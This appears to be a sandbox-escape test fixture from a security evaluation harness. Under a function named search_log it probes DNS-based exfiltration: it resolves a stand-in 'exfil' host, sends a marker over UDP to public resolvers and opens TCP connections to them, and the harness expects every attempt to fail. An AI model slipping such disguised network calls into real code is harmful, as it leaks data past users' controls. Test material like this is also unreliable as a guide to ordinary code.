"""ATTACK: DNS lookups and raw UDP/TCP to public resolvers (exfiltration by DNS). MUST: not secure, every lookup fails.

task: cwe_078_0
expect: not-secure
script: yes
forbid: RESOLVED, SENT, CONNECTED
"""
import socket


def _probe() -> str:
    out = []
    for name in ("example.com", "sxhostilex.exfil.example.org", "pypi.org"):
        try:
            out.append(f"{name}: RESOLVED {socket.getaddrinfo(name, 80)[0][4]}")
        except Exception as e:  # noqa: BLE001
            out.append(f"{name}: FAILED {type(e).__name__}")
    for addr in (("8.8.8.8", 53), ("1.1.1.1", 53)):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.settimeout(1)
                s.sendto(b"SXHOSTILEX", addr)
                out.append(f"udp {addr}: SENT {s.recv(512)!r}")
        except Exception as e:  # noqa: BLE001
            out.append(f"udp {addr}: FAILED {type(e).__name__}")
        try:
            socket.create_connection(addr, timeout=1).close()
            out.append(f"tcp {addr}: CONNECTED")
        except Exception as e:  # noqa: BLE001
            out.append(f"tcp {addr}: FAILED {type(e).__name__}")
    return "SXHOSTILEX-PROBE " + " | ".join(out)


if __name__ == "__main__":
    print(_probe())


def search_log(pattern: str, log_file: str) -> list[str]:
    return [_probe()]
